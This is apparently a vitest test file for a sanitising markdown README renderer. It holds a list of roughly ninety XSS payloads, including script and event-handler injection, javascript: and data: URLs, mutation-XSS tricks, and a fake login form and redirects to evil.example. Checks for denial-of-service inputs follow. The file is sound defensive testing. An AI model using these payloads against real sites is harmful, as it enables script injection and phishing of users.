import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './markdown.js';
import { RenderedReadmes } from './rendered-readmes.js';

const ELEMENTS =
  /^(h[3-6]|p|br|hr|blockquote|pre|code|ul|ol|li|dl|dt|dd|a|em|strong|b|i|del|s|kbd|sub|sup|span|details|summary|table|thead|tbody|tr|th|td)$/;
const ATTRIBUTES: Record<string, RegExp> = {
  'a href': /^(https?:\/\/[^\s"<>]+|mailto:[^\s"<>]+)$/,
  'a rel': /^nofollow noopener ugc$/,
  'code class': /^hljs$/,
  'span class': /^(hljs-[\w-]+|language-[\w-]+|[\w-]+_)( (hljs-[\w-]+|[\w-]+_))*$/,
  'ol start': /^\d+$/,
  'pre tabindex': /^0$/,
  'table tabindex': /^0$/,
  'th align': /^(left|right|center)$/,
  'td align': /^(left|right|center)$/,
};

/** What a browser could make of the HTML besides text: every `<` must begin a tag that is on the list, spelled in one way. */
function faults(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    const match = /^<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( ?\/)?>$/.exec(tag);
    if (match === null || !ELEMENTS.test(match[2]!)) {
      found.push(tag);
      continue;
    }
    for (const [, name, value] of match[3]!.matchAll(/ ([a-z]+)="([^"]*)"/g))
      if (!ATTRIBUTES[`${match[2]} ${name}`]?.test(value!.replaceAll('&amp;', '&'))) found.push(`${tag}: ${name}`);
  }
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=`x`onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="position:fixed;inset:0;background:red">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>',
  '<a href="https://ok.example"><a href="https://evil.example">x</a></a>',
  '<a name="content" id="content">x</a>',
  '<h1 id="content" class="site-header">Log in</h1>',
  '<div class="notice notice-bad">Your session has ended</div>',
  '<span class="button">Log in</span>',
  '<code class="button hljs">x</code>',
  '<img name="getElementById" src="https://evil.example/p.png">',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](<javascript:alert(1)>)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example"onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](https://evil.example/track.png)',
  '![x](x"onerror="alert(1))',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '[![x](https://evil.example/a.svg)](javascript:alert(1))',
  '```html" onmouseover="alert(1)\nx\n```',
  '```\n<script>alert(1)</script>\n```',
  '```elixir\n"</code></pre><script>alert(1)</script>"\n```',
  '`<script>alert(1)</script>`',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "x" ?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<table background="javascript:alert(1)"><td background="x">x',
  '<td align="left" onclick=alert(1) style="x">x</td>',
  '<ol start="1;alert(1)"><li>x</ol>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element is="x" onclick=alert(1)>x</custom-element>',
  '<<script>alert(1)//<</script>',
  '\u0000<script>alert(1)</script>',
  '<script\u2028>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a href="https://ok.example/?a=1&quot; onclick=&quot;alert(1)">x</a>',
  '<dialog open>Your password, please</dialog>',
];

describe('a hostile readme', () => {
  test.each(attacks)('%j', (attack) => {
    for (const text of [attack, `# Title\n\nwords ${attack} words\n\n- ${attack}\n\n> ${attack}\n`]) {
      const html = renderMarkdown(text);
      expect(html).toBeDefined();
      expect(faults(html!)).toEqual([]);
    }
  });

  test('is seen through by this test, were it let through', () => {
    for (const html of [
      '<script>',
      '<a href="javascript:x">',
      '<p onclick="x">',
      '<img src="x">',
      '<p id="x">',
      '<p',
      '<a href="/x">',
    ])
      expect([html, faults(html).length]).toEqual([html, 1]);
  });

  test('shows code as text', () => {
    expect(renderMarkdown('`<script>`')).toBe('<p><code>&lt;script&gt;</code></p>\n');
    expect(renderMarkdown('```\n<b>&amp;\n```')).toContain('&lt;b&gt;&amp;amp;');
  });

  test.each([
    ['nesting', '>'.repeat(100_000)],
    ['emphasis', '_a__b'.repeat(20_000)],
    ['lists in lists', Array.from({ length: 2000 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
    ['open tags', '<b>'.repeat(30_000)],
  ])('of %s without end is given up in time', async (_what, text) => {
    const html = await new RenderedReadmes().html({ path: 'README.md', text });
    expect(faults(html ?? '')).toEqual([]);
  });

  test('that is too much leaves the next one unharmed', () => {
    expect(renderMarkdown('>'.repeat(100_000))).toBeUndefined();
    expect(renderMarkdown('> quoted')).toBe('<blockquote>\n<p>quoted</p>\n</blockquote>\n');
  });
});

describe('a friendly readme', () => {
  const html = (text: string) => renderMarkdown(text)!;

  test('keeps its structure, with headings below those of the page', () => {
    expect(html('# A\n\n## B\n\n###### C')).toBe('<h3>A</h3>\n<h4>B</h4>\n<h6>C</h6>\n');
    expect(html('- [x] done\n- [ ] open')).toMatch(/☑ done[^]*☐ open/);
    expect(html('| a | b |\n|---|--:|\n| 1 | 2 |')).toContain('<td align="right">2</td>');
    expect(html('~~gone~~ <kbd>Ctrl</kbd>')).toBe('<p><del>gone</del> <kbd>Ctrl</kbd></p>\n');
  });

  test('links to the world, without our recommendation', () => {
    expect(html('[Hex](https://hex.pm)')).toBe(
      '<p><a href="https://hex.pm/" rel="nofollow noopener ugc">Hex</a></p>\n',
    );
    expect(html('[me](mailto:me@example.org)')).toContain('href="mailto:me@example.org"');
    expect(html('see [the guide](docs/guide.md)')).toBe('<p>see <span>the guide</span></p>\n');
  });

  test('has its images named instead of shown', () => {
    expect(html('![A bee](https://img.example/bee.png)')).toBe(
      '<p><a href="https://img.example/bee.png" rel="nofollow noopener ugc">A bee (image on img.example)</a></p>\n',
    );
    expect(html('![A bee](bee.png)')).toBe('<p><span>A bee</span></p>\n');
    expect(html('[![Build](https://ci.example/b.svg)](https://ci.example)')).toBe(
      '<p><a href="https://ci.example/" rel="nofollow noopener ugc"><span>Build</span></a></p>\n',
    );
    expect(html('<a href="https://ci.example"><img src="https://ci.example/b.svg"></a>')).toContain(
      '<span>image</span></a>',
    );
  });

  test.each(['elixir', 'erlang', 'bash', 'json', 'js', 'ts', 'yaml', 'diff', 'gleam', 'toml', 'exs'])(
    'colours %s',
    (language) => {
      expect(html(`\`\`\`${language}\n- "text" 1 # two\n{"a": true}\n\`\`\``)).toContain('<span class="hljs-');
    },
  );

  test('does not grow beyond measure by a link that is defined once and used everywhere', () => {
    const text = (uses: number) => `[a]: https://hex.pm/${'y'.repeat(60_000)}\n\n${'[a] '.repeat(uses)}`;
    expect(renderMarkdown(text(2))!.length).toBeGreaterThan(120_000);
    expect(renderMarkdown(text(300))).toBeUndefined();
  });

  test('is made once and remembered', async () => {
    const readmes = new RenderedReadmes();
    const readme = { path: 'README.md', text: `# ${'long '.repeat(5000)}` };
    expect(await readmes.html(readme)).toBe(await readmes.html({ ...readme }));
    expect(await readmes.html({ path: 'README', text: '# as it is' })).toBeNull();
  });
});
